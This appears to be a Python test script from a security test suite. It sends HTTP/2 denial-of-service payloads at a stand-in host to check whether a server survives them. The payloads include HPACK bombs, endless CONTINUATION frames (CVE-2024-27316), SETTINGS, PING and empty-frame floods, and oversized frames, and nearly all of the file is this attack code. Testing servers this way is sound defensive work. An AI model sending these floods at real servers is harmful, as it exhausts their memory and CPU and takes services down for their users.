# SPDX-License-Identifier: Apache-2.0
# Trick: HPACK bombs, endless CONTINUATION (CVE-2024-27316), floods of SETTINGS, PING and
#	empty frames, frames too long
# Gain: memory and time for nothing
# Control: none, the world speaks no HTTP/2
from trick import *

look_up("key.example.com")
big = "x" * 3900
bomb = b"\x40\1x" + b"\x7f" + bytes([3900 - 127 & 127 | 128, (3900 - 127) >> 7]) + big.encode() + b"\xbe" * 16000
for data in (frame(1, 4, 1, bomb[:16384]) , frame(1, 0, 1, bomb[:16000]) + frame(9, 0, 1, b"\xbe" * 16000) * 100,
             frame(1, 0, 1, hpack(h2_fields("key.example.com"))) + frame(9, 0, 1, hpack([("x-a", "b" * 1000)])) * 2000,
             frame(1, 0, 1, b"\x82") + frame(9, 0, 1, b"") * 20000, frame(4, 0, 0, struct.pack("!HI", 4, 100) * 100) * 300,
             frame(6, 0, 0, b"12345678") * 20000, frame(0, 0, 1, b"") * 5000, frame(1, 4, 1, hpack(h2_fields("key.example.com"))) + frame(0, 0, 1, b"") * 20000,
             b"\xff\xff\xff\0\0\0\0\0\1" + b"x" * 100000, frame(2, 0, 1, b"\x80\0\0\1\xff") * 5000, frame(8, 0, 0, b"\x7f\xff\xff\xff") * 50):
    s = h2_open(KEY, "key.example.com")
    if not s:
        untried("no connection")
    s.settimeout(2)
    say(s, data)
    read(s, 0.1)
    s.close()
if not alive(10):
    escaped("nothing works any more")
stopped("the gate serves on")
